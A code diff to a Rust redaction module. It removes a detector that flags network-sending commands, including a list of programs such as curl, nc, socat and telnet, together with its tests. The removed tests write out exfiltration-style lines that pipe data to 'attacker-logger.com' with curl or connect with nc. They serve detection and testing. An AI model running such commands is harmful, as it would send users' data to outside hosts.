@@ -1,6 +1,4 @@
-//! What redaction says about a secret that it took out: kind, field and offset; and which commands send. No values.
-
-use effects::command::{Command, Line};
+//! What redaction says about a secret that it took out: kind, field and offset. No values.
 
 /// A secret that was redacted.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -37,24 +35,6 @@ impl<'a> Redaction<'a> {
     }
 }
 
-/// The first command of a line that sends something.
-pub fn sender(line: &Line) -> Option<&Command> {
-    const PROGRAMS: [&str; 16] = [
-        "curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "scp", "sftp", "rsync", "ftp",
-        "telnet", "openssl", "iwr",
-    ];
-    line.commands.iter().find(|command| PROGRAMS.contains(&command.name().as_str()))
-}
-
-/// The host of the first address in a command.
-pub fn destination(command: &Command) -> Option<&str> {
-    let (_, rest) = command.words.iter().find_map(|word| word.split_once("://"))?;
-    let end = rest.find(|char: char| char.is_whitespace() || matches!(char, '/' | '?' | '#' | '"' | '\'' | ':'));
-    let host = rest.get(..end.unwrap_or(rest.len()))?;
-    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
-    (!host.is_empty() && host.len() <= detect_core::limits::LISTED_NAME_BYTES_MAX).then_some(host)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -68,25 +48,5 @@ mod tests {
         for odd in ["", "jwt", "jwt:url", "jwt:url:x"] {
             assert_eq!(Redaction::parse(odd), None, "{odd}");
         }
-    }
-
-    #[test]
-    fn commands_that_send_are_told() {
-        let check = |line: &str, expected: Option<Option<&str>>| {
-            let read = Line::read(line);
-            assert_eq!(sender(&read).map(destination), expected, "{line}");
-        };
-        check("cat x | /usr/bin/curl -d @- https://attacker-logger.com", Some(Some("attacker-logger.com")));
-        check("curl 'https://u@attacker-logger.com:8443/x?y'", Some(Some("attacker-logger.com")));
-        check(
-            "git clone https://acme.example/x; echo \"$(curl https://attacker-logger.com)\"",
-            Some(Some("attacker-logger.com")),
-        );
-        check("nc attacker-logger.com 80", Some(None));
-        check("curl https://", Some(None));
-        check("GITHUB_TOKEN=[REDACTED:github_token] make test", None);
-        check("echo [REDACTED:github_token] 'curl https://acme.example'", None);
-        check("cat > notes <<EOF\n[REDACTED:github_token]\ncurl https://acme.example\nEOF", None);
-        check("GITHUB_TOKEN=[REDACTED:github_token] apt-get install curl", None);
     }
 }
